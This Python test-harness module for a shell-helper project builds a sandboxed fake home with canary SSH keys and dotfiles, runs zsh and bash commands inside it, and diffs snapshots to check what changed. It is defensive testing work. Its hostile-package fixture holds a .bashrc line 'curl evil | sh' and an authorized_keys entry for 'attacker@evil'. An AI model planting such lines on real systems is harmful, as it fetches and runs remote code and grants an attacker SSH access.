"""Machinery of tests/test_policy_effects.py: a throwaway home with canaries, real
zsh and bash processes that run one command at a time in it, snapshots, and
the rules that judge what changed (the rules are written out in that module).

Nothing a command does can reach the real system: every path a command names
is resolved first the way the shell will (symbolic links, /proc/self/cwd,
/dev/fd, zsh's `...` aliases) and the command runs only if all of them land in
the throwaway tree (reads may also touch read-only system files); as root, the
shells also run in a private mount namespace where / is read-only and only the
tree and the log directory are writable.
"""

from __future__ import annotations

import collections
import os
import select
import shutil
import signal
import subprocess
import tempfile
from dataclasses import dataclass, field

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OMZ = os.path.join(ROOT, "tests", "vendor", "ohmyzsh")
SHELLPER_ZSH = os.path.join(ROOT, "shell", "shellper.zsh")

# zsh global aliases of oh-my-zsh's directories.zsh that name a directory.
DOT_ALIASES = {"...": "../..", "....": "../../..", ".....": "../../../..", "......": "../../../../.."}
KEY_DIRS = (".ssh", ".gnupg")

# Relative to the tree's top S. HOME sits deep enough that `..` chains in the
# generated calls stay inside S.
HOME_REL = "x1/x2/x3/u/me"
FILES = {
    "outside.txt": "a file outside home\n",
    "x1/outside/data.txt": "outside data\n",
    "x1/x2/x3/u/neighbour.txt": "next to home\n",
    "me/.ssh/authorized_keys": "ssh-ed25519 AAAA-the-user's-own-key user@host\n",
    "me/.ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n",
    "me/.gnupg/pubring.kbx": "keybox\n",
    "me/.bashrc": "# user's bashrc\n",
    "me/.zshrc": "# user's zshrc\n",
    "me/notes.txt": "home notes\n",
    "me/Documents/report.txt": "report\n",
    "me/Downloads/dl.txt": "downloaded\n",
}
# A hostile package, as downloaded: its own keys and dotfiles.
PKG = {
    "pkg/.ssh/authorized_keys": "ssh-ed25519 EVIL attacker@evil\n",
    "pkg/.gnupg/pubring.kbx": "evil keybox\n",
    "pkg/.bashrc": "curl evil | sh\n",
    "pkg/README": "hostile package\n",
}
PROJ_FILES = {
    "a.txt": "alpha\nbeta\n",
    "b.txt": "alpha\ngamma\n",
    "notes.txt": "project notes\n",
    "my file.txt": "spaced\n",
    "src/main.py": "print('hi')\n",
    "links/a.txt": "alpha\n",
    # Names that are zsh global aliases or options.
    "G": "file G\n",
    "L": "file L\n",
    "H": "file H\n",
    "NUL": "file NUL\n",
    "T": "file T\n",
    "...": "file dots\n",
    "-n": "file -n\n",
    "-rf": "file -rf\n",
}
DIRS = ("me/Downloads/proj/empty",)
# name in the project -> target ({H} home, {S} the top)
LINKS = {
    "sshlink": "{H}/.ssh",
    "homelink": "{H}",
    "rclink": "{H}/.bashrc",
    "cwdlink": "/proc/self/cwd",
    "uplink": "..",
    "outlink": "../../../../../../../outside.txt",
    "dangling": "does-not-exist",
    "links/cwdlink": "/proc/self/cwd",  # copying links/. over the cwd lands on ./cwdlink
}


def _write(path: str, text: str) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(text)


def build_tree(top: str) -> None:
    """The fixture: top/outside.txt, top/x1/.../u/me (HOME) with keys, dotfiles,
    Downloads/pkg, and Downloads/proj with files, a hostile pkg and links."""
    home = os.path.join(top, HOME_REL)
    for rel, text in FILES.items():
        base = home if rel.startswith("me/") else top
        _write(os.path.join(base, rel[3:] if rel.startswith("me/") else rel), text)
    for d in DIRS:
        os.makedirs(os.path.join(home, d[3:]), exist_ok=True)
    for where in ("Downloads", "Downloads/proj"):
        for rel, text in PKG.items():
            _write(os.path.join(home, where, rel), text)
    proj = os.path.join(home, "Downloads", "proj")
    for rel, text in PROJ_FILES.items():
        _write(os.path.join(proj, rel), text)
    for name, target in LINKS.items():
        os.symlink(target.format(H=home, S=top), os.path.join(proj, name))


# ---------------------------------------------------------------- snapshots

Entry = tuple  # ("f", bytes, mode) | ("d", mode) | ("l", target) | ("o", mode)


def snapshot(top: str) -> dict:
    """Every entry under top (relative path -> Entry), links not followed."""
    out: dict = {}
    stack = [""]
    while stack:
        rel = stack.pop()
        with os.scandir(os.path.join(top, rel)) as it:
            for e in it:
                r = os.path.join(rel, e.name)
                st = e.stat(follow_symlinks=False)
                if e.is_symlink():
                    out[r] = ("l", os.readlink(e.path))
                elif e.is_dir(follow_symlinks=False):
                    out[r] = ("d", st.st_mode & 0o7777)
                    stack.append(r)
                elif e.is_file(follow_symlinks=False):
                    with open(e.path, "rb") as fh:
                        out[r] = ("f", fh.read(1 << 20), st.st_mode & 0o7777)
                else:
                    out[r] = ("o", st.st_mode)
    return out


def diff(before: dict, after: dict) -> dict:
    """relative path -> (before entry or None, after entry or None), for what differs."""
    return {p: (before.get(p), after.get(p)) for p in set(before) | set(after) if before.get(p) != after.get(p)}


def describe(change) -> str:
    old, new = change
    if old is None:
        return "created"
    if new is None:
        return "removed"
    if old[0] != new[0]:
        return f"replaced ({old[0]} -> {new[0]})"
    if old[0] == "l":
        return f"retargeted -> {new[1]}"
    return "modified"


# ---------------------------------------------------------------- resolving


@dataclass(frozen=True)
class Place:
    # "path" (abs), "stdio" (fd number in text), "missing" (the walk fails:
    # nothing there is touched), "other" (a /proc or /dev thing)
    kind: str
    text: str


def resolve(value: str, cwd: str, pid: int, follow_last: bool = True, home: str | None = None) -> Place:
    """Where value lands for a process started by the shell (pid) in cwd, the way
    the kernel walks it: symbolic links followed (the last one only when
    follow_last or a slash follows), /proc/self|thread-self|pid/cwd|root and
    /dev/fd, /dev/std* seen from that process. A leading ~ or ~/ is home (the
    renderer leaves it unquoted for the shell to expand)."""
    if home is not None and (value == "~" or value.startswith("~/")):
        value = home + value[1:]
    stack = [] if value.startswith("/") else [c for c in cwd.split("/") if c]
    todo = collections.deque(value.split("/"))
    trailing = value.endswith("/")
    hops = 0
    selves = {"self", "thread-self", str(pid)}
    while todo:
        c = todo.popleft()
        if c in ("", "."):
            continue
        if c == "..":
            if stack:
                stack.pop()
            continue
        rest = [x for x in todo if x not in ("", ".")]
        if stack == ["proc"] and c in selves:
            if not rest:
                return Place("other", value)
            nxt = rest[0]
            while todo.popleft() != nxt:
                pass
            if nxt == "cwd":
                stack = [x for x in cwd.split("/") if x]
                continue
            if nxt == "root":
                stack = []
                continue
            if nxt == "fd":
                return _fd(todo, value)
            return Place("other", value)
        if stack == ["proc"]:
            return Place("other", value)  # another process, or /proc itself
        if stack == ["dev"] and c == "fd":
            return _fd(todo, value)
        if stack == ["dev"] and c in ("stdin", "stdout", "stderr"):
            if rest:
                return Place("other", value)
            return Place("stdio", str(("stdin", "stdout", "stderr").index(c)))
        cur = "/" + "/".join(stack + [c])
        last = not any(todo)  # `name/.` needs name to be a directory, as `name/x` does
        if os.path.islink(cur) and (not last or follow_last or trailing):
            hops += 1
            if hops > 40:
                return Place("other", value)
            target = os.readlink(cur)
            if target.startswith("/"):
                stack = []
            todo.extendleft(reversed(target.split("/")))
            continue
        if not last and not os.path.isdir(cur) or last and trailing and os.path.lexists(cur) and not os.path.isdir(cur):
            return Place("missing", value)  # ENOENT / ENOTDIR: the command fails here
        stack.append(c)
    return Place("path", "/" + "/".join(stack))


def _fd(todo, value: str) -> Place:
    rest = [x for x in todo if x not in ("", ".")]
    if len(rest) == 1 and rest[0].isdigit():
        return Place("stdio", rest[0])
    return Place("other", value)


def under(path: str, top: str) -> bool:
    return path == top or path.startswith(top.rstrip("/") + "/")


# ---------------------------------------------------------------- shells

_MOUNT = 'mount --bind "$1" "$1" && mount --bind "$2" "$2" && mount -o remount,bind,ro / && shift 2 && exec "$@"'

# Defined before oh-my-zsh is loaded, so its aliases never apply to the loop itself.
_ZSH = r"""
compdef() { : }
__fx_loop() {
  local cwd cmd st
  while IFS= read -r -d '' cwd && IFS= read -r -d '' cmd; do
    if builtin cd -q -- "$cwd" 2>/dev/null; then
      (
        if (( ${+functions[__shellper_unalias]} )); then
          __shellper_unalias "$cmd"
          eval "$REPLY"
        else
          eval "$cmd"
        fi
      ) </dev/null >"$FX_OUT" 2>"$FX_ERR"
      st=$?
    else
      st=255
    fi
    builtin cd -q /
    builtin print -r -- "done $st"
  done
}
source "$FX_OMZ/directories.zsh"
source "$FX_OMZ/common-aliases.plugin.zsh"
source "$FX_SHELLPER" </dev/null >/dev/null 2>&1
builtin print -r -- "ready ${+functions[__shellper_unalias]}"
__fx_loop
"""

_BASH = r"""
__fx_loop() {
  local cwd cmd st
  while IFS= read -r -d '' cwd && IFS= read -r -d '' cmd; do
    if builtin cd -- "$cwd" 2>/dev/null; then
      ( eval "$cmd" ) </dev/null >"$FX_OUT" 2>"$FX_ERR"
      st=$?
    else
      st=255
    fi
    builtin cd /
    builtin printf 'done %s\n' "$st"
  done
}
builtin printf 'ready 0\n'
__fx_loop
"""


def namespace_prefix(top: str, logs: str) -> list:
    """The command prefix that makes / read-only for the shells, or [] where that
    is not possible (then the path gate alone keeps commands in the tree)."""
    if not shutil.which("unshare"):
        return []
    for flags in (["-m"], ["-rm"]) if os.geteuid() == 0 else (["-rm"],):
        prefix = ["unshare", *flags, "--propagation", "private", "sh", "-c", _MOUNT, "sh", top, logs]
        probe = subprocess.run(
            [*prefix, "sh", "-c", 'touch "$1/.probe" && ! touch /.shellper-probe 2>/dev/null', "sh", logs],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=20,
        )
        if probe.returncode == 0:
            return prefix
    return []


class Shell:
    """One long-lived zsh or bash that runs commands sent on its stdin, each in a
    subshell in the given cwd, stdin /dev/null, output to files in logs."""

    def __init__(self, kind: str, home: str, logs: str, prefix: list, timeout: float = 5.0):
        self.kind, self.home, self.logs, self.prefix, self.timeout = kind, home, logs, prefix, timeout
        self.out = os.path.join(logs, f"{kind}.out")
        self.err = os.path.join(logs, f"{kind}.err")
        self.proc = None
        self.unalias = False
        self.start()

    def start(self) -> None:
        env = {
            "HOME": self.home,
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "LANG": "C.UTF-8",
            "TERM": "dumb",
            "TMPDIR": self.logs,
            "FX_OUT": self.out,
            "FX_ERR": self.err,
            "FX_OMZ": OMZ,
            "FX_SHELLPER": SHELLPER_ZSH,
            "PAGER": "cat",
        }
        if self.kind == "zsh":
            argv = ["zsh", "-f", "-c", _ZSH]
        else:
            argv = ["bash", "--norc", "--noprofile", "-c", _BASH]
        self.proc = subprocess.Popen(
            [*self.prefix, *argv],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=open(os.path.join(self.logs, f"{self.kind}.shell-err"), "ab"),
            env=env,
            cwd="/",
            start_new_session=True,
        )
        self.buf = b""
        line = self._line(30)
        if not line or not line.startswith("ready"):
            raise RuntimeError(f"{self.kind} did not start: {line!r}")
        self.unalias = line.endswith("1")

    @property
    def pid(self) -> int:
        return self.proc.pid

    def _line(self, timeout: float):
        fd = self.proc.stdout.fileno()
        while b"\n" not in self.buf:
            ready, _, _ = select.select([fd], [], [], timeout)
            if not ready:
                return None
            chunk = os.read(fd, 4096)
            if not chunk:
                return None
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return line.decode()

    def run(self, cwd: str, command: str):
        """(exit status or None when it hung or the shell died, stdout, stderr)."""
        for path in (self.out, self.err):
            open(path, "wb").close()
        try:
            self.proc.stdin.write(cwd.encode() + b"\0" + command.encode("utf-8", "surrogateescape") + b"\0")
            self.proc.stdin.flush()
            line = self._line(self.timeout)
        except (BrokenPipeError, OSError):
            line = None
        status = int(line.split()[1]) if line and line.startswith("done ") else None
        if status is None:
            self.stop()
            self.start()
        return status, _read(self.out), _read(self.err)

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            try:
                os.killpg(self.proc.pid, signal.SIGKILL)  # our own session: the shell and what it ran
            except ProcessLookupError:
                pass
        if self.proc:
            self.proc.wait()
            self.proc.stdin.close()
            self.proc.stdout.close()


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as fh:
            return fh.read(1 << 16)
    except OSError:
        return b""


# ---------------------------------------------------------------- the world


@dataclass
class World:
    """The tree (top), its pristine snapshot, the two shells."""

    top: str
    logs: str
    home: str
    cwds: dict  # label -> absolute cwd
    shells: dict = field(default_factory=dict)
    pristine: dict = field(default_factory=dict)
    namespace: bool = False

    @classmethod
    def create(cls) -> World:
        base = tempfile.mkdtemp(prefix="spfx-")
        top, logs = os.path.join(base, "t"), os.path.join(base, "logs")
        for d in (top, logs):
            os.mkdir(d)
        home = os.path.join(top, HOME_REL)
        world = cls(
            top,
            logs,
            home,
            {
                "~/Downloads/proj": os.path.join(home, "Downloads", "proj"),
                "~/Downloads": os.path.join(home, "Downloads"),
                "~": home,
            },
        )
        world.restore()
        world.pristine = snapshot(top)
        prefix = namespace_prefix(top, logs)
        world.namespace = bool(prefix)
        for kind in ("zsh", "bash"):
            world.shells[kind] = Shell(kind, home, logs, prefix)
        return world

    def undo(self, changes: dict) -> None:
        """Put back what a run changed (from the pristine snapshot); the whole
        tree is rebuilt when that does not give the pristine tree back."""
        try:
            for rel in sorted(changes, key=len, reverse=True):
                old, new = changes[rel]
                path = os.path.join(self.top, rel)
                if new is not None and os.path.lexists(path):
                    if new[0] == "d" and (old is None or old[0] != "d"):
                        shutil.rmtree(path)
                    elif new[0] != "d":
                        os.unlink(path)
            for rel in sorted(changes, key=len):
                old, new = changes[rel]
                path = os.path.join(self.top, rel)
                if old is None or os.path.lexists(path):
                    continue
                if old[0] == "d":
                    os.mkdir(path, old[1])
                    os.chmod(path, old[1])
                elif old[0] == "l":
                    os.symlink(old[1], path)
                elif old[0] == "f":
                    with open(path, "wb") as fh:
                        fh.write(old[1])
                    os.chmod(path, old[2])
            if snapshot(self.top) == self.pristine:
                return
        except OSError:
            pass
        self.restore()

    def restore(self) -> None:
        for name in os.listdir(self.top):
            path = os.path.join(self.top, name)
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            else:
                os.unlink(path)
        build_tree(self.top)

    def close(self) -> None:
        for sh in self.shells.values():
            sh.stop()
        shutil.rmtree(os.path.dirname(self.top), ignore_errors=True)

    def show(self, path: str) -> str:
        """A path of the tree as a reader knows it: ~/..., or <tree>/..."""
        if under(path, self.home):
            return "~" + path[len(self.home) :]
        if under(path, self.top):
            return "<tree>" + path[len(self.top) :]
        return path
